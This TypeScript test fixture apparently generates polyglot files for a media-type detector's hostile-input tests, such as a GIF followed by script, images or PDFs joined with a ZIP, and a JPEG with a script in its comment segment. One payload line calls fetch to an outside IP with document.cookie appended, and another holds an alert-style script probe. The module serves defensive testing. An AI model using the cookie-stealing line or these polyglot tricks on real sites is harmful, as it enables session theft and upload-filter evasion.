import { type MediaType, mediaTypes } from '../../../src/media/media-type/media-type.js';
import { zip } from './zip.js';
import { type HostileCase, type Makes, WORD } from './hostile-case.js';

/** Files that are two things at once. */
export const polyglots: Makes = function* (bases) {
  const archive = zip({ 'evil.sh': Buffer.from('#!/bin/sh\nid\n') });
  const script = Buffer.from('*/=1;fetch("http://203.0.113.7/"+document.cookie)//');
  yield both('image/gif', 'and a script', bases['image/gif'], script);
  yield both('image/jpeg', 'and a ZIP', bases['image/jpeg'], archive);
  yield both('application/pdf', 'and a ZIP', bases['application/pdf'], archive);
  yield both('image/jpeg', 'with a page in its comment', withComment(bases['image/jpeg'], '<script>alert(1)</script>'));
  yield both('image/png', 'and a PDF', bases['image/png'], bases['application/pdf']);
  yield both('application/pdf', 'behind junk', Buffer.alloc(1000, 'GIF8 junk\n'), bases['application/pdf']);
  yield both('video/mp4', 'and a page', bases['video/mp4'], bases['text/html']);
  yield both('image/bmp', 'and a program', bases['image/bmp'], Buffer.from('MZ\x90\0', 'latin1'), Buffer.alloc(300));
  yield both(WORD, 'behind a picture', bases['image/png'], bases[WORD]);
  yield both('image/svg+xml', 'within a page', Buffer.from('<html><body>'), bases['image/svg+xml']);
  yield both('image/tiff', 'and a film', bases['image/tiff'], bases['video/x-matroska']);
  yield both(
    'text/plain',
    'that begins as a program',
    Buffer.from('MZ, BM and ID3 are signatures. '),
    bases['text/plain'],
  );
};

const both = (base: MediaType, what: string, ...parts: Buffer[]): HostileCase => ({
  name: `${mediaTypes[base].extension} ${what}`,
  filename: `both.${mediaTypes[base].extension}`,
  bytes: Buffer.concat(parts),
  base,
});

/** A comment segment right behind the start of the image. */
function withComment(jpeg: Buffer, comment: string): Buffer {
  const segment = Buffer.from([0xff, 0xfe, 0, comment.length + 2]);
  return Buffer.concat([jpeg.subarray(0, 2), segment, Buffer.from(comment), jpeg.subarray(2)]);
}
